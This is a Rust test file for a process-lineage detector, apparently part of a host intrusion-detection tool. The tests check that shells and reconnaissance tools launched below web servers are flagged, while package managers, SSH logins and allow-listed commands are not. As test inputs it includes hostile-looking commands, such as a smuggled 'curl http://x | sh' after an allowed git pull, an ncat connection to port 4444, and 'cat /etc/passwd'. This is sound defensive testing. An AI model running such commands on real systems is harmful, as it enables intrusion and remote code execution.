//! `lineage`'s tests: shells and tools below web servers, benign helpers, allow rules.
use super::*;
use crate::{config::Config, detect::tests::culprit};

/// The hash lookup answers exactly as comparing with every name does.
#[test]
fn name_roles_agree_with_name_matches() {
    let config = Config::parse("", std::path::Path::new("t.toml"))
        .unwrap()
        .lineage;
    let names = Names::new(&config);
    let comms = [
        "nginx",
        "nginx1.2",
        "php-fpm8.2",
        "php-fpm",
        "php-fpm8.2x",
        "python3",
        "python3.11",
        "python",
        "python3.",
        "node",
        "node20",
        "apt",
        "apt-get",
        "dpkg",
        "sshd",
        "tmux",
        "bash",
        "",
        "1",
        "3.11",
        "nginxx",
        "ngin",
        "npm",
        "pip3",
        "pip3.11",
        "id",
        "curl",
        "ncat",
        "gcc",
        "gcc12",
    ];
    for comm in comms {
        let any = |list: &[String]| list.iter().any(|n| name_matches(n, comm));
        let want = Roles {
            package_manager: any(&config.package_managers),
            shell_service: any(&config.shell_services),
            web_server: any(&config.web_servers),
            interpreter: any(&config.interpreters),
            tool: any(&config.tools),
        };
        assert_eq!(names.roles(comm), want, "{comm:?}");
        assert_eq!(Roles::from_bits(want.to_bits()), want, "{comm:?}");
    }
}

fn lineage(toml: &str) -> Lineage {
    Lineage::new(
        Config::parse(toml, std::path::Path::new("t.toml"))
            .unwrap()
            .lineage,
    )
}

fn argv(s: &str) -> Vec<String> {
    s.split(' ').map(String::from).collect()
}

/// (pid, comm, listening, package manager).
fn up(list: &[(u32, &'static str, bool, bool)]) -> Vec<Ancestor<'static>> {
    list.iter()
        .map(|&(pid, comm, listening, package_manager)| Ancestor {
            pid,
            comm,
            listening,
            package_manager,
            roles: None,
        })
        .collect()
}

fn shell() -> bool {
    true
}

#[test]
fn shell_below_a_listening_interpreter() {
    let l = lineage("");
    let c = culprit(20, "sh", &[(10, "node")]);
    let a = up(&[(10, "node", true, false), (1, "systemd", false, false)]);
    let f = l.on_exec(&c, &argv("sh -c id"), &a, shell).unwrap();
    assert_eq!((f.anomaly, f.subject), (Anomaly::Lineage, 10));
    assert!(f.detail.contains("node → sh"), "{}", f.detail);
    assert!(f.detail.contains("accepts connections"), "{}", f.detail);
    let deep = culprit(30, "bash", &[(20, "sh"), (10, "node")]);
    let a = up(&[(20, "sh", false, false), (10, "node", true, false)]);
    let f = l.on_exec(&deep, &argv("bash -i"), &a, shell).unwrap();
    assert!(f.detail.contains("node → sh → bash"), "{}", f.detail);
}

#[test]
fn interpreters_that_do_not_listen_are_not_servers() {
    let l = lineage("");
    // python3 admin script → sh -c "apt-get --version"; node deploy script → sh -c git.
    for server in ["python3.11", "node", "ruby", "java"] {
        let c = culprit(20, "sh", &[(10, server)]);
        let a = up(&[(10, server, false, false), (1, "cron", false, false)]);
        assert!(
            l.on_exec(&c, &argv("sh -c x"), &a, shell).is_none(),
            "{server}"
        );
    }
}

#[test]
fn daemons_count_by_name_and_others_by_listening() {
    let l = lineage("");
    let c = culprit(20, "sh", &[(10, "php-fpm8.2")]);
    let a = up(&[(10, "php-fpm8.2", false, false)]);
    assert!(l.on_exec(&c, &[], &a, shell).is_some());
    // A renamed server binary that listens.
    let a = up(&[(10, "app", true, false)]);
    assert!(l.on_exec(&c, &[], &a, shell).is_some());
    let a = up(&[(10, "app", false, false)]);
    assert!(l.on_exec(&c, &[], &a, shell).is_none());
    // With any_listener off, only interpreters do.
    let strict = lineage("[lineage]\nany_listener = false\n");
    let a = up(&[(10, "app", true, false)]);
    assert!(strict.on_exec(&c, &[], &a, shell).is_none());
    let a = up(&[(10, "node", true, false)]);
    assert!(strict.on_exec(&c, &[], &a, shell).is_some());
}

#[test]
fn a_recognised_package_manager_is_never_a_server_and_shields_what_is_below() {
    let l = lineage("");
    let c = culprit(30, "sh", &[(20, "npm"), (10, "systemd")]);
    // The real npm listening briefly is still not a server.
    let a = up(&[(20, "npm", true, true)]);
    assert!(l.on_exec(&c, &[], &a, shell).is_none());
    let a = up(&[(20, "node", false, true), (10, "node", true, false)]);
    assert!(l.on_exec(&c, &[], &a, shell).is_none());
}

#[test]
fn a_comm_buys_no_exemption() {
    let l = lineage("");
    let c = culprit(30, "sh", &[(20, "pip"), (10, "python3")]);
    // A listener that calls itself `pip` is a server like any other.
    let a = up(&[(20, "pip", true, false)]);
    assert!(l.on_exec(&c, &[], &a, shell).is_some());
    // A process named `pip` (comm only) does not shield the listening server above it.
    let a = up(&[(20, "pip", false, false), (10, "python3", true, false)]);
    let f = l.on_exec(&c, &[], &a, shell).unwrap();
    assert_eq!(f.subject, 10);
}

/// A fake host with Debian's npm and node, and an upload in the web root.
fn on_host(dir: &std::path::Path) -> Lineage {
    use crate::enrich::installed::testing::{file, foreign, link};
    file(dir, "usr/share/nodejs/npm/bin/npm-cli.js", 0o755);
    link(dir, "usr/bin/npm", "../share/nodejs/npm/bin/npm-cli.js");
    file(dir, "usr/bin/node", 0o755);
    file(dir, "usr/bin/python3", 0o755);
    file(dir, "usr/bin/apt-get", 0o755);
    file(dir, "var/www/up/pip", 0o755);
    let files = foreign(dir, "var/www/up/pip", 33);
    let config = Config::parse("", std::path::Path::new("t.toml"))
        .unwrap()
        .lineage;
    Lineage::with_files(config, files)
}

#[test]
fn package_managers_are_installed_files_never_below_a_server() {
    let dir = tempfile::tempdir().unwrap();
    let l = on_host(dir.path());
    let top = || false;
    let is_pm = |filename: &str, args: &str| l.is_package_manager(filename, &argv(args), top);
    if nix::unistd::geteuid().is_root() {
        assert!(is_pm("/usr/bin/node", "node /usr/bin/npm install"));
        assert!(is_pm("/usr/bin/apt-get", "apt-get update"));
    }
    assert!(!is_pm(
        "/usr/bin/python3",
        "python3 /var/www/up/pip install"
    ));
    assert!(!is_pm("/usr/bin/python3", "python3 -m pip install x"));
    assert!(!is_pm("/usr/bin/node", "node server.js"));
    assert!(
        !is_pm("/usr/bin/dpkg", "dpkg -i x.deb"),
        "not installed here"
    );
    // The real npm, run by an exploited server, is the server's.
    let npm = argv("node /usr/bin/npm install");
    assert!(!l.is_package_manager("/usr/bin/node", &npm, || true));
    // Below a server is asked only of a claim that could hold.
    let server = || panic!("asked without a claim");
    assert!(!l.is_package_manager("/usr/bin/node", &argv("node app.js"), server));
}

#[test]
fn services_that_hand_out_shells_are_not_servers() {
    let l = lineage("");
    // An SSH login: bash below sshd (listening), below systemd (listening).
    let c = culprit(30, "bash", &[(20, "sshd"), (10, "sshd"), (1, "systemd")]);
    let a = up(&[
        (20, "sshd", true, false),
        (10, "sshd", true, false),
        (1, "systemd", true, false),
    ]);
    assert!(l.on_exec(&c, &[], &a, shell).is_none());
    // A tmux window.
    let a = up(&[(9, "tmux", true, false), (1, "systemd", true, false)]);
    assert!(l.on_exec(&c, &[], &a, shell).is_none());
    // But a web server started from a login is still one.
    let a = up(&[
        (40, "node", true, false),
        (30, "bash", false, false),
        (20, "sshd", true, false),
    ]);
    assert!(l.on_exec(&c, &[], &a, shell).is_some());
}

#[test]
fn not_a_shell_is_not_asked_unless_below_a_server() {
    let l = lineage("");
    let c = culprit(20, "git", &[(10, "node")]);
    let a = up(&[(10, "node", true, false)]);
    assert!(l.on_exec(&c, &[], &a, || false).is_none());
    let none = up(&[(10, "bash", false, false)]);
    assert!(
        l.on_exec(&c, &[], &none, || panic!("asked without a server"))
            .is_none()
    );
}

#[test]
fn allow_list_silences_a_known_good_pattern() {
    let l = lineage(
        "[[lineage.allow]]\nparent = \"node\"\nchild = \"sh\"\nargv = \"^sh -c git (pull|fetch)\"\n",
    );
    let sh = culprit(20, "sh", &[(10, "node")]);
    let node = up(&[(10, "node", true, false)]);
    // The pattern covers the whole argument string: nothing may ride along.
    assert!(
        l.on_exec(
            &sh,
            &argv("sh -c git pull; curl http://x | sh"),
            &node,
            shell
        )
        .is_some()
    );
    assert!(
        l.on_exec(&sh, &argv("sh -c git fetch --all"), &node, shell)
            .is_some()
    );
    assert!(
        l.on_exec(&sh, &argv("sh -c git pull"), &node, shell)
            .is_none()
    );
    // Other arguments, another shell or another server are still alerts.
    assert!(
        l.on_exec(&sh, &argv("sh -c curl evil"), &node, shell)
            .is_some()
    );
    let bash = culprit(21, "bash", &[(10, "node")]);
    assert!(
        l.on_exec(&bash, &argv("bash -c git pull"), &node, shell)
            .is_some()
    );
    let py = up(&[(11, "python3", true, false)]);
    assert!(
        l.on_exec(&sh, &argv("sh -c git pull"), &py, shell)
            .is_some()
    );
    // A rule without argv allows every invocation.
    let any = lineage("[[lineage.allow]]\nparent = \"node\"\nchild = \"sh\"\n");
    assert!(
        any.on_exec(&sh, &argv("sh -c anything"), &node, shell)
            .is_none()
    );
}

#[test]
fn configured_names_are_used() {
    let l = lineage("[lineage]\nweb_servers = [\"gunicorn\"]\n");
    let c = culprit(2, "fish", &[(1, "gunicorn")]);
    assert!(
        l.on_exec(&c, &[], &up(&[(1, "gunicorn", false, false)]), shell)
            .is_some()
    );
    assert!(
        l.on_exec(&c, &[], &up(&[(1, "nginx", false, false)]), shell)
            .is_none()
    );
}

#[test]
fn tools_below_a_web_server_with_or_without_a_shell() {
    let l = lineage("");
    let never = || false;
    // node → python3 -c (the payload) → id, through subprocess: no shell anywhere.
    let a = up(&[
        (11, "python3", false, false),
        (10, "node", true, false),
        (1, "systemd", false, false),
    ]);
    for cmd in [
        "id",
        "whoami",
        "uname -a",
        "curl -s http://x",
        "ncat 198.51.100.4 4444",
        "gcc -o /tmp/x x.c",
        "cat /etc/passwd",
        "chmod +x /tmp/x",
        "chmod 755 /tmp/x",
        "chmod u+rwx,go-w /tmp/x",
    ] {
        let comm = cmd.split(' ').next().unwrap();
        let c = culprit(20, comm, &[(11, "python3"), (10, "node")]);
        let f = l
            .on_exec(&c, &argv(cmd), &a, never)
            .unwrap_or_else(|| panic!("{cmd}"));
        assert_eq!((f.anomaly, f.subject), (Anomaly::Lineage, 10), "{cmd}");
        assert!(
            f.detail
                .starts_with("reconnaissance or tooling program below a web server"),
            "{}",
            f.detail
        );
        assert!(f.detail.contains("node → python3 → "), "{}", f.detail);
    }
    // Helpers a web app runs, and harmless uses of cat and chmod: nothing.
    for cmd in [
        "git pull",
        "convert a.png b.jpg",
        "php-fpm -t",
        "cat /srv/app/config.json",
        "chmod 644 /srv/app/upload.png",
        "chmod -R go-w /srv/app",
        "chmod +r x+y.png",
    ] {
        let comm = cmd.split(' ').next().unwrap();
        let c = culprit(20, comm, &[(10, "node")]);
        assert!(l.on_exec(&c, &argv(cmd), &a[1..], never).is_none(), "{cmd}");
    }
    // Not below a web server: an admin's `id`.
    let c = culprit(20, "id", &[(10, "bash")]);
    let admin = up(&[(10, "bash", false, false), (1, "systemd", false, false)]);
    assert!(l.on_exec(&c, &argv("id"), &admin, never).is_none());
    // The list is configurable, and allow rules cover tools too.
    let l = lineage(
        "[lineage]\ntools = [\"convert\"]\n\
         [[lineage.allow]]\nparent = \"node\"\nchild = \"convert\"\nargv = \"convert thumb.*\"\n",
    );
    let c = culprit(20, "convert", &[(10, "node")]);
    assert!(
        l.on_exec(&c, &argv("convert a.png b.jpg"), &a[1..], never)
            .is_some()
    );
    assert!(
        l.on_exec(&c, &argv("convert thumb.png"), &a[1..], never)
            .is_none()
    );
    let c = culprit(20, "id", &[(10, "node")]);
    assert!(l.on_exec(&c, &argv("id"), &a[1..], never).is_none());
}
